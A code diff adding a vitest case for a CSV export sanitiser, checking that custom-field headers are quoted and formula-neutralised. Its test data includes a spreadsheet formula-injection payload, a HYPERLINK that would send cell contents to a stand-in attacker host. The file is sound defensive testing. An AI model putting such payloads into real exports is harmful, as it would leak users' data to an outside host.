@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { csvSafe } from '@app/domain';
+import { csvSafe, csvText } from '@app/domain';
 
 /** Every CSV cell that a spreadsheet would run as a formula is neutralised. */
 describe('csvSafe', () => {
@@ -21,5 +21,18 @@ describe('csvSafe', () => {
     expect(csvSafe(12.5)).toBe(12.5);
     expect(csvSafe(null)).toBe('');
     expect(csvSafe(undefined)).toBe('');
+  });
+
+  it('neutralises and quotes the headers too: an Admin chooses the labels of custom fields', () => {
+    const label = '=HYPERLINK("http://evil.test/?d="&A2,"Click")';
+    const text = csvText([
+      { 'Order ID': 1, [label]: 'Tourist', 'Say "hi", then\r=go': '+1' },
+      { 'Order ID': 2, [label]: null, 'Say "hi", then\r=go': 'x' },
+    ]);
+    expect(text.split('\r\n')).toEqual([
+      `"Order ID","'=HYPERLINK(""http://evil.test/?d=""&A2,""Click"")","Say ""hi"", then\r'=go"`,
+      `"1","Tourist","'+1"`,
+      `"2","","x"`,
+    ]);
   });
 });
